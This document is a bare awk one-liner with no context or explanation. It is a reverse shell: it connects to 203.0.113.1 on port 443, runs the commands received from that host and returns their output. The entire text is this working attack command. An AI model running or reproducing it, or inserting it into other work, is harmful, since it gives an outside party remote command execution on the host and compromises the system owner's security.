awk 'BEGIN{s="/inet/tcp/0/203.0.113.1/443";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'
